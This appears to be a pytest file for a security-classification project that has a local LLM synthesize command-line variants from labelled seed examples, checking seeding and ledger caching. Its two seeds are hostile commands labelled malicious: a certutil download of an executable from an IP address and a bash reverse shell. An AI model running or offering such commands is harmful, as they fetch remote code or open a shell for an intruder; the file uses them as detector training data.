"""The real LLM path: llama.cpp writes command-line variants through the ledger, and a rerun costs nothing.

Needs the optional extra ``llm`` (llama-cpp-python) and the Qwen2.5-Coder-0.5B chunk packages; skips with a
message saying what is missing.
"""

from __future__ import annotations

import importlib.util

import pytest

from distilsec.data.example import Example
from distilsec.errors import ConfigError

pytestmark = pytest.mark.llm

SEEDS = [
    Example("certutil.exe -urlcache -split -f http://10.0.0.5/a.exe a.exe", "malicious"),
    Example("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "malicious"),
]


@pytest.fixture(scope="module")
def backend():
    if importlib.util.find_spec("llama_cpp") is None:
        pytest.skip("the optional extra 'llm' (llama-cpp-python) is not installed")
    from distilsec.teachers.llm.gguf_assemble import resolve_gguf
    from distilsec.teachers.llm.llamacpp import LlamaCppBackend

    try:
        resolve_gguf("qwen2.5-coder-0.5b")
    except ConfigError as exc:
        pytest.skip(f"Qwen2.5-Coder-0.5B chunk packages are not installed: {exc}")
    b = LlamaCppBackend("qwen2.5-coder-0.5b", n_ctx=2048, n_threads=2)
    yield b
    b.close()


def test_llama_cpp_generates_seeded_answers(backend):
    msgs = [{"role": "user", "content": "Write one Linux command that lists files. Answer with the command only."}]
    a = backend.generate(msgs, max_tokens=24, temperature=0.8, seed=5)
    b = backend.generate(msgs, max_tokens=24, temperature=0.8, seed=5)
    assert a.answer["text"] == b.answer["text"] and a.answer["text"].strip()
    assert a.completion_tokens > 0 and a.prompt_tokens > 0


def test_llm_generator_through_the_ledger(backend, tmp_path):
    from distilsec.methods.synthesize import LLMGenerator, synthesize
    from distilsec.teachers.ledger import TeacherLedger

    gen = LLMGenerator("cmdline", ledger=None, max_tokens=64).connect(
        backend, ledger=TeacherLedger(tmp_path / "l.sqlite")
    )
    first = synthesize(gen, SEEDS, n_per_seed=2, progress=False)
    s = first.stats
    assert s["generated"] == 4 and s["kept"] + s["rejected"] == 4
    assert s["llm"]["calls"] == 4 and s["llm"]["errors"] == 0
    again = synthesize(gen, SEEDS, n_per_seed=2, progress=False)
    assert gen.calls_ == 4 and gen.cached_ == 4  # the rerun read every answer from the ledger
    assert [e.text for e in again.examples] == [e.text for e in first.examples]
